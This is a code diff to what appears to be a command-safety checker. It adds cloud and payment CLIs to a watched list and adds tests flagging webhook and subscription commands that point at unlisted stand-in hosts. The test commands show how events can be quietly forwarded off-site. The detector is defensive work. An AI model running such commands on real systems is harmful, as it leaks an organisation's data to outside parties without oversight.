@@ -197,6 +197,12 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
                         | "yarn"
                         | "bun"
                         | "az"
+                        // Subscriptions and webhooks: every later event to that address.
+                        | "gcloud"
+                        | "stripe"
+                        | "twilio"
+                        | "shopify"
+                        | "doctl"
                         // A model SDK's base address: the API key in every request.
                         | "model-sdk"
                 )
@@ -381,6 +387,24 @@ mod tests {
                     "upload_unknown_destination",
                 ),
                 ("twine upload dist/*", Pass, ""),
+                // Subscriptions and webhooks: events sent on to an address nobody listed.
+                (
+                    "aws sns subscribe --topic-arn arn:aws:sns:us-east-1:1:order-events --protocol https --notification-endpoint https://events.partner-sync.example/sns",
+                    Auth,
+                    "upload_unknown_destination",
+                ),
+                (
+                    "stripe webhook_endpoints create --url https://status-relay.example/stripe",
+                    Auth,
+                    "upload_unknown_destination",
+                ),
+                (
+                    "gcloud pubsub subscriptions create s1 --topic t --push-endpoint https://hooks.partner.example/p",
+                    Auth,
+                    "upload_unknown_destination",
+                ),
+                ("aws sns list-subscriptions", Pass, ""),
+                ("gcloud pubsub subscriptions create s1 --topic t", Pass, ""),
                 (
                     "npm whoami --registry=https://npm-mirror.example/",
                     Auth,
